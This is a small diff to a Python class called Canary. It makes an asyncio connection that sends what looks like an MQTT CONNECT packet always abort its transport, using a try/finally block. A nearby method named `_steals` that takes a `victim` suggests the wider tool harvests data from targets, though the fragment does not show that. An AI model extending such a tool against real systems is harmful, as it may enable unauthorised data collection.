@@ -145,9 +145,11 @@ class Canary:
             body += len(part).to_bytes(2, "big") + part
         with suppress(OSError, asyncio.IncompleteReadError):
             reader, writer = await asyncio.open_connection(*self._server[:2], ssl=self._server.tls)
-            writer.write(bytes([0x10, len(body) % 128 | 0x80, len(body) // 128]) + body)
-            await reader.readexactly(4)
-            writer.transport.abort()
+            try:
+                writer.write(bytes([0x10, len(body) % 128 | 0x80, len(body) // 128]) + body)
+                await reader.readexactly(4)
+            finally:
+                writer.transport.abort()
 
     async def _steals(self, victim: Ears) -> list[str]:
         found: list[str] = []
